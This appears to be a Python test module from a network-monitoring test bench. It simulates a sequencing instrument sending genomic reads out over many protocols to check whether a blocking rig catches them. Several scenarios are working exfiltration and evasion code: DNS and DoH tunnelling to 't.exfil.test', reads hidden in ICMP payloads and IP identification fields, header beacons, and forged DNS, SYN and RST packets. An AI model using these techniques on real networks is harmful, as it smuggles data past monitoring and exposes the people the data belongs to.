"""The instrument: real clients sending run data out, run inside the "instrument" namespace.

    python -m tests.hw.net.instrument SCENARIO RUN_DIR RIG_CA HOST

Exit 0 when the server took it, 3 when the connection was refused or cut (a --block rig), 1 else.
"""

from __future__ import annotations

import gzip
import json
import socket
import ssl
import subprocess
import sys
import time
from pathlib import Path

from sandbox.captures.writer import ipv4, tcp_segment, udp_datagram
from sandbox.model import ACK, RST, SYN
from sandbox.simulate import wire
from tests.hw.net.forged import Forger, in_far_end_s_name
from tests.hw.net.topology import CLOUD_IP, OTHER_IP, RIG_IN_IP

BASECALLS = Path("Data") / "Intensities" / "BaseCalls"


def fastq(run_dir: Path, sample: str) -> bytes:
    return next((run_dir / BASECALLS).glob(f"{sample}*.fastq.gz")).read_bytes()


def reads(run_dir: Path, sample: str, n: int) -> list[str]:
    lines = gzip.decompress(fastq(run_dir, sample)).decode().splitlines()
    return lines[1::4][:n]


def curl(run_dir: Path, ca: str, host: str) -> None:      # HTTP/2 when curl has nghttp2 (ALPN h2)
    path = next((run_dir / BASECALLS).glob("PT9936*.fastq.gz"))
    subprocess.run(["curl", "-sS", "--fail", "--cacert", ca, "--max-time", "60", "-X", "POST",
                    "--data-binary", f"@{path}", f"https://{host}/upload"], check=True, capture_output=True)


def chunked_gzip(run_dir: Path, ca: str, host: str) -> None:
    import requests

    raw = gzip.compress(gzip.decompress(fastq(run_dir, "PT5698")))
    body = (raw[i:i + 9000] for i in range(0, len(raw), 9000))
    r = requests.put(f"https://{host}/chunked", data=body, headers={"content-encoding": "gzip"}, verify=ca,
                     timeout=60)
    r.raise_for_status()


def s3(run_dir: Path, ca: str, host: str) -> None:
    import boto3

    # by address: moto reads a bucket name from a Host that is not an S3 endpoint
    c = boto3.client("s3", endpoint_url=f"http://{socket.gethostbyname(host)}:5000", region_name="us-east-1",
                     aws_access_key_id="testing", aws_secret_access_key="testing")
    c.create_bucket(Bucket="runs")
    c.put_object(Bucket="runs", Key="PT9006-B1.fastq.gz", Body=fastq(run_dir, "PT9006"))


def websocket(run_dir: Path, ca: str, host: str) -> None:
    from websockets.sync.client import connect

    ctx = ssl.create_default_context(cafile=ca)
    rs = reads(run_dir, "PT9006", 80)
    with connect(f"wss://{host}:8443/live", ssl=ctx) as ws:
        for i in range(0, len(rs), 20):
            ws.send(json.dumps({"type": "basecall_preview", "reads": rs[i:i + 20]}))
            ws.recv(timeout=30)


def grpc_call(run_dir: Path, ca: str, host: str) -> None:
    import grpc

    creds = grpc.ssl_channel_credentials(root_certificates=Path(ca).read_bytes())
    with grpc.secure_channel(f"{host}:50051", creds) as channel:
        put = channel.unary_unary("/sequencer.Upload/Put", request_serializer=bytes, response_deserializer=bytes)
        put("\n".join(reads(run_dir, "PT5698", 150)).encode(), timeout=60)


def raw_tls(run_dir: Path, ca: str, host: str) -> None:
    ctx = ssl.create_default_context(cafile=ca)
    with socket.create_connection((host, 9443), timeout=60) as s, ctx.wrap_socket(s, server_hostname=host) as tls:
        tls.sendall(gzip.decompress(fastq(run_dir, "PT9936"))[:60000])


def status(run_dir: Path, ca: str, host: str, at: str = "") -> None:
    """A small status report, no run data in it; ``at``: to this address, whatever DNS says of ``host``."""
    pin = ["--resolve", f"{host}:443:{at}"] if at else []
    subprocess.run(["curl", "-sS", "--fail", "--cacert", ca, "--max-time", "60", *pin, "-X", "POST",
                    "--data-binary", '{"state": "idle"}', f"https://{host}/status"], check=True, capture_output=True)


def status_elsewhere(run_dir: Path, ca: str, host: str) -> None:
    """The status report under the cloud's name, to a server nobody's DNS answer names."""
    status(run_dir, ca, host, OTHER_IP)


def status_elsewhere_after_a_forged_answer(run_dir: Path, ca: str, host: str) -> None:
    """The same, after an answer forged in the bench resolver's name that gives the cloud's name the
    other server's address: as if the resolver had vouched for it."""
    me = own_address(CLOUD_IP)
    answer = udp_datagram(CLOUD_IP, me, 53, 40053, wire.dns_answer(0x5BD1, host, OTHER_IP))
    in_far_end_s_name(ipv4(CLOUD_IP, me, socket.IPPROTO_UDP, answer))
    time.sleep(0.3)
    status(run_dir, ca, host, OTHER_IP)


def send_unless_cut(sock: socket.socket, data: bytes) -> None:
    """Send ``data`` and wait a while: a cut connection (a --block rig) ends before the wait does."""
    sock.sendall(data)
    sock.settimeout(10)
    try:
        if not sock.recv(1):
            raise ConnectionError("closed")
    except TimeoutError:
        pass        # still open: it went through


def raw_status(run_dir: Path, ca: str, host: str, at: str = "") -> None:
    """A line in raw TLS under the cloud's server name (to ``at`` when given, whatever DNS says)."""
    ctx = ssl.create_default_context(cafile=ca)
    with socket.create_connection((at or host, 9443), timeout=60) as s, ctx.wrap_socket(s, server_hostname=host) as tls:
        send_unless_cut(tls, b"status=idle;run=none\n")   # no space: mitmproxy takes it for raw TCP, not HTTP


def plain(run_dir: Path, ca: str, host: str, data: bytes = b"status=idle;run=none\n") -> None:
    """Plain TCP to the cloud's port 9000 (no TLS: only the raw recording has it)."""
    with socket.create_connection((host, 9000), timeout=60) as s:
        send_unless_cut(s, data)


def plain_reads(run_dir: Path, ca: str, host: str) -> None:
    """Reads in plain TCP behind a status line (no space in it: mitmproxy takes it for raw TCP)."""
    plain(run_dir, ca, host, b"status=upload;\n" + gzip.decompress(fastq(run_dir, "PT9936"))[:60000])


def plain_records(run_dir: Path, ca: str, host: str) -> None:
    """Plain TCP: a gzip of reads behind 150 kB of noise in records of 16 kB, each behind its length and a
    sequence number (a vendor's socket protocol)."""
    import random
    import struct

    blob = gzip.compress(random.Random(5).randbytes(150_000) + gzip.decompress(fastq(run_dir, "PT9936"))[:40000])
    plain(run_dir, ca, host, b"".join(struct.pack(">II", len(blob[at:at + 16384]) + 4, n) + blob[at:at + 16384]
                                      for n, at in enumerate(range(0, len(blob), 16384))))


def upload_line(run_dir: Path) -> bytes:
    """A status line, then 20 kB of reads."""
    return b"status=upload;\n" + gzip.decompress(fastq(run_dir, "PT9936"))[:20000]


def plain_reads_behind_junk(run_dir: Path, ca: str, host: str) -> None:
    """Plain TCP: every segment of the upload forged first with other bytes and a stale timestamp
    (the receiver drops them), then the real upload."""
    data = upload_line(run_dir)
    with Forger(host, 9000) as f:
        for at in range(0, len(data), 1200):
            f.forge(bytes(b ^ 0x55 for b in data[at:at + 1200]), at, stale=True)
        send_unless_cut(f.sock, data)


def plain_reads_after_a_forged_reset(run_dir: Path, ca: str, host: str) -> None:
    """Plain TCP: a RST far outside the window (the receiver ignores it), then the upload."""
    with Forger(host, 9000) as f:
        f.forge(b"", 1 << 24, flags=RST | ACK)
        send_unless_cut(f.sock, upload_line(run_dir))


def plain_reads_with_urgent_bytes(run_dir: Path, ca: str, host: str) -> None:
    """Plain TCP: a "#" sent urgent (out of band) in every 20 bytes of the upload, paced so the
    receiver reads each before the next: its kernel takes them out of the stream it reads (one the
    receiver has not read when the next comes stays in line; the first few wait longer, so the
    first bytes the cloud gets show it on a loaded machine too)."""
    data = upload_line(run_dir)
    with socket.create_connection((host, 9000), timeout=60) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for at in range(0, len(data) - 20, 20):
            s.sendall(data[at:at + 10])
            s.send(b"#", socket.MSG_OOB)
            s.sendall(data[at + 10:at + 20])
            time.sleep(0.1 if at < 80 else 0.002)
        send_unless_cut(s, data[at + 20:])


def own_address(toward: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((toward, 9))
        return s.getsockname()[0]


def plain_reads_after_a_forged_syn(run_dir: Path, ca: str, host: str) -> None:
    """Plain TCP from a port a SYN in the cloud's name went to first: as if the cloud had opened it."""
    cloud = socket.gethostbyname(host)
    with socket.socket() as s:
        s.bind(("0.0.0.0", 0))
        me, port = own_address(cloud), s.getsockname()[1]
        in_far_end_s_name(ipv4(cloud, me, socket.IPPROTO_TCP, tcp_segment(cloud, me, 9000, port, 77_777, 0, SYN)))
        time.sleep(0.3)
        s.settimeout(60)
        s.connect((cloud, 9000))
        send_unless_cut(s, upload_line(run_dir))


def udp_reads_after_a_forged_datagram(run_dir: Path, ca: str, host: str) -> None:
    """UDP reads from a port a datagram in the cloud's name went to first: as if the cloud spoke first."""
    cloud = socket.gethostbyname(host)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind(("0.0.0.0", 0))
        me, port = own_address(cloud), s.getsockname()[1]
        in_far_end_s_name(ipv4(cloud, me, socket.IPPROTO_UDP, udp_datagram(cloud, me, 9999, port, b"hello")))
        time.sleep(0.3)
        data = upload_line(run_dir)
        for at in range(0, len(data), 1200):
            s.sendto(data[at:at + 1200], (cloud, 9999))
            time.sleep(0.001)


def tls_reads_after_a_forged_reset(run_dir: Path, ca: str, host: str) -> None:
    """Raw TLS: after the handshake, a RST far outside the window, then 20 kB of reads."""
    ctx = ssl.create_default_context(cafile=ca)
    with Forger(host, 9443) as f, ctx.wrap_socket(f.sock, server_hostname=host) as tls:
        f.forge(b"", 1 << 24, flags=RST | ACK)
        send_unless_cut(tls, gzip.decompress(fastq(run_dir, "PT9936"))[:20000])


def raw_status_elsewhere(run_dir: Path, ca: str, host: str) -> None:
    raw_status(run_dir, ca, host, OTHER_IP)


def proxy_name_of_reads(run_dir: Path, ca: str, host: str) -> None:
    """Through the rig as an explicit proxy, a raw tunnel to a name under the cloud's made of a read:
    the CONNECT line carries it, and a proxy that resolved the name would send it on to its resolver
    (raw TCP in the tunnel: mitmproxy connects as soon as it sees it is no HTTP)."""
    read = reads(run_dir, "PT9936", 1)[0][:180].lower()
    name = ".".join([read[i:i + 60] for i in range(0, len(read), 60)] + [host])
    with socket.create_connection((RIG_IN_IP, 8080), timeout=60) as s:
        s.sendall(f"CONNECT {name}:9443 HTTP/1.1\r\nHost: {name}:9443\r\n\r\n".encode())
        if not s.recv(4096).startswith(b"HTTP/1.1 200"):
            raise ConnectionError("the proxy refused the tunnel")
        s.sendall(b"status=idle;run=none\n")
        if not s.recv(1):
            raise ConnectionError("closed")


def dns_tunnel(run_dir: Path, ca: str, host: str, server: str = "") -> None:
    """Reads hex-encoded in the names of DNS queries to the cloud's resolver (``server``: to this one)."""
    import dns.exception
    import dns.message
    import dns.query

    server = server or socket.gethostbyname(host)
    for n, read in enumerate(reads(run_dir, "PT9936", 12)):
        hexed = read[:76].encode().hex()
        labels = [hexed[i:i + 60] for i in range(0, len(hexed), 60)]
        name = ".".join([*labels, f"r{n}", "t.exfil.test"])
        try:
            dns.query.udp(dns.message.make_query(name, "A"), server, port=53, timeout=10)
        except dns.exception.Timeout:
            raise ConnectionError("no answer: the query was dropped") from None


def doh_tunnel(run_dir: Path, ca: str, host: str) -> None:
    """The same names as DNS over HTTPS queries (RFC 8484): POSTed as ``application/dns-message``."""
    import dns.message
    import requests

    with requests.Session() as http:
        for n, read in enumerate(reads(run_dir, "PT9936", 12)):
            hexed = read[:76].encode().hex()
            labels = [hexed[i:i + 60] for i in range(0, len(hexed), 60)]
            query = dns.message.make_query(".".join([*labels, f"r{n}", "t.exfil.test"]), "A").to_wire()
            r = http.post(f"https://{host}/dns-query", data=query, verify=ca, timeout=60,
                          headers={"content-type": "application/dns-message", "accept": "application/dns-message"})
            r.raise_for_status()


def dns_tunnel_via_the_rig(run_dir: Path, ca: str, host: str) -> None:
    """The same through mitmproxy's own resolver in WireGuard mode (the printed client config's DNS)."""
    dns_tunnel(run_dir, ca, host, "10.0.0.53")


def udp(run_dir: Path, ca: str, host: str) -> None:
    """Reads in plain UDP datagrams: no protocol, no handshake, no answer."""
    import time

    server = socket.gethostbyname(host)
    data = gzip.decompress(fastq(run_dir, "PT9936"))[:60000]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for at in range(0, len(data), 1200):
            s.sendto(data[at:at + 1200], (server, 9999))
            time.sleep(0.001)


def ping(run_dir: Path, ca: str, host: str, payload: bytes = b"status=idle;run=none") -> None:
    """One ICMP echo request to the cloud carrying ``payload``; the echo reply (the same bytes) back."""
    import struct
    import time

    from sandbox.captures.writer import checksum

    server = socket.gethostbyname(host)
    header = struct.pack("!BBHHH", 8, 0, 0, 0x5B0C, 1)
    packet = struct.pack("!BBHHH", 8, 0, checksum(header + payload), 0x5B0C, 1) + payload
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.settimeout(5)
        s.sendto(packet, (server, 0))
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            try:
                reply = s.recv(65536)
            except TimeoutError:
                break
            if reply[20] == 0 and reply[28:] == payload:
                return
    raise ConnectionError("no echo reply: the request was dropped")


def ping_reads(run_dir: Path, ca: str, host: str) -> None:
    """Reads in the body of a ping: ICMP echo carries whatever its sender puts there."""
    ping(run_dir, ca, host, gzip.decompress(fastq(run_dir, "PT9936"))[:1200])


def ping_identifications(run_dir: Path, ca: str, host: str) -> None:
    """Reads two bytes a ping in the IPv4 identification of empty echo requests (a raw socket writes the
    IP header itself): not a byte of payload."""
    import struct

    from sandbox.captures.writer import checksum

    server = socket.gethostbyname(host)
    data = gzip.decompress(fastq(run_dir, "PT9936"))[:1200]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        for n in range(0, len(data), 2):
            echo = struct.pack("!BBHHH", 8, 0, 0, 0x5B0D, n)
            echo = echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:]
            ident = int.from_bytes(data[n:n + 2], "big")      # never 0 in text: the kernel fills only a 0
            header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, ident, 0x4000, 64, 1, 0,
                                 socket.inet_aton(own_address(server)), socket.inet_aton(server))
            s.sendto(header + echo, (server, 0))


def sftp(run_dir: Path, ca: str, host: str) -> None:
    """A run file pushed with SFTP (asyncssh): SSH is no TLS the rig can open, only name and count."""
    import asyncio

    import asyncssh

    async def run() -> None:
        async with asyncssh.connect(host, 22, username="instrument", password="service", known_hosts=None,
                                    client_keys=None, agent_path=None) as conn, conn.start_sftp_client() as client:
            async with client.open("PT9936.fastq.gz", "wb") as f:
                await f.write(fastq(run_dir, "PT9936"))

    asyncio.run(run())


def _pieces(run_dir: Path, size: int = 4096) -> list[bytes]:
    data = fastq(run_dir, "PT9936")
    return [data[at: at + size] for at in range(0, len(data), size)]


def mqtt(run_dir: Path, ca: str, host: str) -> None:
    """A run file published to the cloud's MQTT broker 4 kB a message (QoS 1, each acknowledged), as an
    IoT SDK sends a file (paho-mqtt, MQTT 5, the topic given once and an alias after it)."""
    import paho.mqtt.client as paho
    from paho.mqtt.packettypes import PacketTypes
    from paho.mqtt.properties import Properties

    client = paho.Client(paho.CallbackAPIVersion.VERSION2, client_id="seq-01", protocol=paho.MQTTv5)
    client.connect(host, 1883)
    client.loop_start()
    try:
        for n, piece in enumerate(_pieces(run_dir)):
            properties = Properties(PacketTypes.PUBLISH)
            properties.TopicAlias = 1
            info = client.publish("run/PT9936" if n == 0 else "", piece, qos=1, properties=properties)
            info.wait_for_publish(30)
            if not info.is_published():
                raise ConnectionError(f"message {n} not acknowledged: the connection was cut")
    finally:
        client.disconnect()
        client.loop_stop()


def amqp(run_dir: Path, ca: str, host: str) -> None:
    """A run file published to the cloud's RabbitMQ 4 kB a message (pika, publisher confirms)."""
    import pika

    conn = pika.BlockingConnection(pika.ConnectionParameters(host, 5672, heartbeat=0))
    try:
        channel = conn.channel()
        channel.confirm_delivery()
        channel.exchange_declare("runs", "direct")
        for piece in _pieces(run_dir):
            channel.basic_publish("runs", "run.PT9936", piece)
    finally:
        if conn.is_open:
            conn.close()


def beacons(run_dir: Path, ca: str, host: str) -> None:
    """Reads 24 bytes a request, in a header, each request on a connection of its own (a beacon)."""
    import requests

    data = "".join(reads(run_dir, "PT9936", 48))
    for at in range(0, len(data), 24):
        r = requests.get(f"https://{host}/pixel.gif", headers={"X-Trace": data[at: at + 24],
                                                                "Connection": "close"}, verify=ca, timeout=60)
        r.raise_for_status()


def amqp1(run_dir: Path, ca: str, host: str) -> None:
    """A run file sent to the cloud's AMQP 1.0 broker 4 kB a message (Qpid Proton, as Azure's SDKs do)."""
    from proton import Message
    from proton.utils import BlockingConnection

    conn = BlockingConnection(f"amqp://guest:guest@{host}:5672", allowed_mechs="PLAIN", timeout=60)
    try:
        sender = conn.create_sender("/queue/PT9936")
        for piece in _pieces(run_dir):
            sender.send(Message(body=piece, inferred=True))
    finally:
        conn.close()


SCENARIOS = {"curl": curl, "chunked-gzip": chunked_gzip, "s3": s3, "websocket": websocket, "grpc": grpc_call,
             "raw-tls": raw_tls, "dns": dns_tunnel, "doh": doh_tunnel, "udp": udp, "sftp": sftp, "status": status,
             "status-elsewhere": status_elsewhere,
             "status-elsewhere-after-a-forged-answer": status_elsewhere_after_a_forged_answer,
             "raw-status": raw_status, "raw-status-elsewhere": raw_status_elsewhere,
             "proxy-name-of-reads": proxy_name_of_reads, "dns-via-the-rig": dns_tunnel_via_the_rig, "ping": ping,
             "ping-reads": ping_reads, "ping-identifications": ping_identifications, "plain": plain, "plain-reads": plain_reads, "plain-records": plain_records,
             "plain-reads-behind-junk": plain_reads_behind_junk,
             "plain-reads-after-a-forged-reset": plain_reads_after_a_forged_reset,
             "plain-reads-with-urgent-bytes": plain_reads_with_urgent_bytes,
             "tls-reads-after-a-forged-reset": tls_reads_after_a_forged_reset,
             "plain-reads-after-a-forged-syn": plain_reads_after_a_forged_syn,
             "udp-reads-after-a-forged-datagram": udp_reads_after_a_forged_datagram, "mqtt": mqtt, "amqp": amqp,
             "amqp1": amqp1, "beacons": beacons}


def main(scenario: str, run_dir: str, ca: str, host: str) -> int:
    try:
        SCENARIOS[scenario](Path(run_dir), ca, host)
    except (ConnectionError, ssl.SSLError, subprocess.CalledProcessError, OSError) as exc:
        print(f"{scenario}: cut: {exc}", file=sys.stderr)
        return 3
    except Exception as exc:  # noqa: BLE001 - the client libraries' own errors for a cut connection
        text = f"{type(exc).__name__}: {exc}"
        print(f"{scenario}: {text}", file=sys.stderr)
        cut = any(w in text for w in ("reset", "closed", "UNAVAILABLE", "Connection", "EOF", "aborted",
                                      "disconnected", "RemoteDisconnected", "EndpointConnectionError", "RST_STREAM"))
        return 3 if cut else 1
    print(f"{scenario}: ok")
    return 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:5]))
